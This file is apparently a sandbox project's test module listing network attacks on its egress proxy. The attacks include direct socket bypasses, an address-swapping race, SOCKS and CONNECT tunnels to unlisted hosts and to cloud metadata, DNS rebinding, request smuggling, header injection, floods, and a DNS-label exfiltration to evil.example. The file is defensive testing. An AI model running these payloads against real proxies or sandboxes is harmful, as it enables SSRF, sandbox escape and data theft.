"""Attacks on a sandbox whose `sandbox.network` opens hosts: ways past the proxy, and ways to trick it."""

from tests.sandbox.attacks import Attack

__all__ = ["ALLOWED", "EVIL", "METADATA", "NAMES", "NETWORK_ATTACKS", "PRELUDE", "PUBLIC"]

PUBLIC, EVIL, METADATA = "93.184.216.34", "6.6.6.6", "169.254.169.254"
ALLOWED = ("example.org", "*.rebound.example", "metadata.example", "mixed.example")
NAMES = {
    "example.org": [[PUBLIC]],
    "evil.example": [[EVIL]],
    "example.org.evil.example": [[EVIL]],
    "metadata.example": [[METADATA]],
    "mixed.example": [["127.0.0.1", PUBLIC]],
    **{f"{number}.rebound.example": [[PUBLIC], ["127.0.0.1"]] for number in range(3)},
}
"""What the proxy's resolver answers the first time, and from the second on."""

PRELUDE = '''
import base64, ctypes, os, socket, struct, subprocess, threading, urllib.parse, urllib.request

PROXY = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
KEY = base64.b64encode(f"x:{PROXY.password or ''}".encode()).decode()

def reach():
    return socket.create_connection((PROXY.hostname, PROXY.port), 10)

def answer(s):
    found = b""
    try:
        while piece := s.recv(65536):
            found += piece
    except OSError:
        pass
    return found.decode("latin-1")

def ask(first, rest="", key=True):
    """Send the proxy a head, as it is, and give all that it answers."""
    with reach() as s:
        more = f"Proxy-Authorization: Basic {KEY}\\r\\n" if key else ""
        s.sendall(f"{first} HTTP/1.1\\r\\n{more}{rest}\\r\\n".encode("latin-1"))
        s.shutdown(1)
        return answer(s)

def tunnel(to):
    """Ask for a tunnel, and for a page through it."""
    with reach() as s:
        s.sendall(f"CONNECT {to} HTTP/1.1\\r\\nProxy-Authorization: Basic {KEY}\\r\\n\\r\\n".encode())
        if b" 200 " not in s.recv(4096):
            return ""
        s.sendall(b"GET / HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n")
        return answer(s)

def socks(kind, host, port):
    with reach() as s:
        s.sendall(b"\\x05\\x02\\x00\\x02")
        if s.recv(2) == b"\\x05\\x02":
            s.sendall(b"\\x01\\x01x" + bytes([len(PROXY.password)]) + PROXY.password.encode())
            s.recv(2)
        s.sendall(b"\\x05\\x01\\x00" + kind + host + port.to_bytes(2, "big"))
        if s.recv(10)[1:2] != b"\\x00":
            return ""
        s.sendall(b"GET / HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n")
        return answer(s)

def show(text):
    if "HARM" in text:
        print("HARM")
'''

_RACE = """
libc = ctypes.CDLL(None, use_errno=True)
def address(port): return struct.pack("=H", 2) + struct.pack("!H", port) + socket.inet_aton("127.0.0.1") + bytes(8)
good, bad = address(PROXY.port), address({port})
shared = ctypes.create_string_buffer(good, 16)
over = threading.Event()
def flip():
    while not over.is_set():
        ctypes.memmove(shared, bad, 16); ctypes.memmove(shared, good, 16)
threading.Thread(target=flip, daemon=True).start()
for _ in range(300):
    s = socket.socket()
    if libc.connect(s.fileno(), shared, 16) == 0 and s.getpeername()[1] == {port}:
        print("HARM")
    s.close()
over.set()
"""

_FLOOD = """
held = []
for _ in range(400):
    try:
        held.append(reach())
    except OSError:
        break
for s in held: s.close()
if "you asked" not in ask("GET http://example.org/a"): print("HARM")
"""

_TOO_MUCH = """
with reach() as s:
    try:
        for _ in range(200): s.sendall(b"x" * 65536)
    except OSError:
        pass
if "you asked" not in ask("GET http://example.org/a"): print("HARM")
"""

_HEADS = """
for head in ("CONNECT example.org:80 HTTP/1.1\\r\\n", "\\x05\\xff", "\\x05\\x02\\x00", "GET http://"):
    s = reach(); s.sendall(head.encode("latin-1")); s.setsockopt(1, 13, struct.pack("ii", 1, 0)); s.close()
if "you asked" not in ask("GET http://example.org/a"): print("HARM")
"""

_FAST_OPEN = """
s = socket.socket()
s.{call}
print('HARM')
"""
_SEND = "sendto(b'GET / HTTP/1.0\\r\\n\\r\\n', 0x20000000, ('127.0.0.1', {port}))"
_SEND_MESSAGE = "sendmsg([b'GET / HTTP/1.0\\r\\n\\r\\n'], [], 0x20000000, ('127.0.0.1', {port}))"
_MULTIPATH = "s = socket.socket(2, 1, 262); s.connect(('127.0.0.1', {port})); print('HARM')"
_LISTEN = "kept = socket.socket(); kept.listen(); print('LISTENS', kept.getsockname()[1])"
_DIRECT = """
direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))
show(direct.open('http://127.0.0.1:{port}', timeout=2).read().decode())
"""
_SPELLINGS = ("127.1", "2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "017700000001", "127.0.0.1.", "0", "0.0.0.0")
_ADDRESSES = (
    *("http://example.org@evil.example/", "http://evil.example#@example.org/", "http://example.org\\@evil.example/"),
    *("http://example.org:80@evil.example/", "//evil.example/", "http://example.org/ http://evil.example/"),
)
_TWO_LENGTHS = "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /HARM HTTP/1.1\r\n"
_SECOND = "\r\nGET http://evil.example/ HTTP/1.1\r\nHost: HARM\r\n"
_NAME_BY_SOCKS = "show(socks(b'\\x03', b'\\x0cevil.example', 80) + socks(b'\\x03', b'\\x09127.0.0.1', 80))"
_REDIRECT = "show(urllib.request.urlopen('http://example.org/redirect').read().decode())"


def _asks(name: str, first: str, rest: str = "") -> Attack:
    return Attack(name, f"show(ask({first!r}, {rest!r}))")


def _each(name: str, function: str, *values: str) -> Attack:
    return Attack(name, f"for each in {values!r}:\n    show({function})")


NETWORK_ATTACKS = (
    # -- past the proxy
    Attack("connect past the proxy", "socket.create_connection(('127.0.0.1', {port}), 2); print('HARM')"),
    Attack("the same by IPv6", "socket.create_connection(('::1', {port}), 2); print('HARM')"),
    Attack("exchange the address while it is looked at", _RACE),
    Attack("connect by sending (TCP fast open)", _FAST_OPEN.replace("{call}", _SEND)),
    Attack("the same with a message", _FAST_OPEN.replace("{call}", _SEND_MESSAGE)),
    Attack("connect by multipath TCP", _MULTIPATH),
    Attack("open a raw socket", "socket.socket(2, 3, 1); print('HARM')"),
    Attack("send a datagram to this machine", "socket.socket(2, 2).sendto(b'HARM', ('127.0.0.1', {udp}))"),
    Attack("look a name up", "socket.getaddrinfo('example.org', 80); print('HARM')"),
    Attack("reach an abstract unix socket", "s = socket.socket(1); s.connect('\\0{abstract}'); print('HARM')"),
    Attack("listen where others reach it", _LISTEN),
    Attack("take no notice of the proxy", _DIRECT),
    # -- hosts
    _each("ask for a host that is not listed", "tunnel(each)", "evil.example:80", "evil.example:443"),
    _each("ask for one that begins like it", "tunnel(each)", "example.org.evil.example:80"),
    _each("carry words out in a name", "tunnel(each)", "c2VjcmV0.evil.example:80", "c2VjcmV0.nowhere.example:80"),
    _each("ask for another port", "tunnel(each)", "example.org:22", "example.org:8080", "example.org:25"),
    _each("ask for an address", "tunnel(each)", f"{EVIL}:80", "127.0.0.1:80", f"{METADATA}:80", f"{PUBLIC}:22"),
    _each("ask for one by IPv6", "tunnel(each)", "[::1]:80", "[::ffff:127.0.0.1]:80", "[::ffff:7f00:1]:80"),
    _each("ask for one in another spelling", "tunnel(each)", *(f"{each}:80" for each in _SPELLINGS)),
    _each("ask for one by SOCKS", "socks(b'\\x01', socket.inet_aton(each), 80)", "127.0.0.1", EVIL, METADATA),
    Attack("ask for a name by SOCKS", _NAME_BY_SOCKS),
    _each("have a listed name lead to a cloud's metadata", "tunnel(each)", "metadata.example:80"),
    _each("have it lead to this machine as well", "tunnel(each)", "mixed.example:80"),
    _each("have it lead there the second time", "tunnel(each)", *(f"{n}.rebound.example:80" for n in (0, 0, 0, 1, 1))),
    Attack("be redirected to an address inside", _REDIRECT),
    # -- requests
    _asks("name another host in a header", "GET http://example.org/", "Host: HARM.example\r\nhost: HARM.example\r\n"),
    _each("name it in the address", "ask('GET ' + each)", *_ADDRESSES),
    _asks("send a second request behind the first", "GET http://example.org/", _SECOND),
    _asks("hide it in a body of two lengths", "POST http://example.org/", _TWO_LENGTHS),
    _asks("break a header in two", "GET http://example.org/", "X: y\nHost: HARM.example\r\n"),
    # -- floods
    Attack("hold every connection that there is", _FLOOD),
    Attack("send a head without end", _TOO_MUCH),
    Attack("break off in the middle", _HEADS),
)
